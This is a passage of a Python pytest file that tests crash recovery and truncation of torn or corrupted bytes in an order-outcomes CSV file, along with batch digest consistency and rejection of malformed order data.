@pytest.mark.parametrize("length", range(len(WHOLE) + 1))
def test_a_file_that_is_torn_wherever_is_healed(tmp_path: Path, length: int) -> None:
    path = tmp_path / "outcomes.csv"
    path.write_text(WHOLE[:length], encoding="utf-8")

    with OutcomeFile(path) as file:
        assert settled_in(file) == ({"n-1"} if length == len(WHOLE) else set())
        if not settled_in(file):
            file.add(2, Outcome("n-1", "completed"), order("n-1"))

    assert path.read_text(encoding="utf-8") == WHOLE


@pytest.mark.parametrize(
    "rest", ["3,n-2,\u20ac".encode()[:-1], b"\0" * 70_000, b'3,n-2,rejected,"a reason; ' + b"x" * 200_000]
)
def test_whatever_is_torn_at_the_end_is_cut_off(tmp_path: Path, rest: bytes) -> None:
    path = tmp_path / "outcomes.csv"
    path.write_bytes(WHOLE.encode() + rest)

    with OutcomeFile(path) as file:
        assert settled_in(file) == {"n-1"}

    assert path.read_text(encoding="utf-8") == WHOLE


def test_a_place_that_cannot_be_written_to_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="cannot be used for outcomes"):
        OutcomeFile(tmp_path / "nowhere" / "outcomes.csv")


# Batches ------------------------------------------------------------------------------------------------


def test_batches_of_the_same_orders_have_the_same_digest_and_others_have_others() -> None:
    one, other = order("n-1", "alice", ("tea-mug", 2)), order("n-1", "alice", ("tea-mug", 3))

    assert digest([one]) == digest([one])
    assert digest([one]) != digest([other])


@pytest.mark.parametrize("packed", [None, {}, {"lines": []}, {"order_id": "n", "customer": "c", "lines": {"x": "1"}}])
def test_what_is_no_order_does_not_come_out_of_a_batch(packed: object) -> None:
    with pytest.raises(InvalidInput):
        unpack(packed)  # type: ignore[arg-type]
